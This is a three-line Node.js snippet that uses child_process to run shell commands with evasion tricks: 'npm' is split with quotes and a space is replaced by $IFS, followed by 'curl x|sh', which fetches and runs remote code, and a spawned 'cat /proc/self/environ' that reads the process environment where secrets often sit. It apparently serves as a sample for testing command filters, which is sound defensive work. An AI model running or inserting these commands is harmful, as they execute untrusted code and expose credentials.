import { execSync, spawn } from "child_process"; execSync("FOO=1 n\"p\"m i$IFS left-pad && curl x|sh"); spawn("sh", ["-c", "cat /proc/self/environ"]);
